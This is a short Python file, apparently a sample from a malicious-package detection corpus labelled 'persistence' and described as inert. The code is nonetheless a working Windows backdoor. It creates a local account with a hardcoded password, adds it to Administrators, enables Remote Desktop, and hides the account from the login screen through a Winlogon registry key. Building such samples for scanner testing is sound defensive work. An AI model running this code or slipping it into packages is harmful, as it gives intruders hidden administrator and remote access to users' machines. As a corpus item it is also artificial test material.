# pkgguard corpus 745 (persistence), modelled on [taxonomy]; inert, never run.
import subprocess
import sys

if sys.platform == "win32":
    for command in (
        "net user support_svc Wq8!r2Lm5z /add /y",
        "net localgroup Administrators support_svc /add",
        r'reg add "HKLM\SYSTEM\CurrentControlSet\Control\Terminal Server" /v fDenyTSConnections /t REG_DWORD /d 0 /f',
        r'reg add "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon\SpecialAccounts\UserList" /v support_svc /t REG_DWORD /d 0 /f',
    ):
        subprocess.run(command, shell=True, capture_output=True)
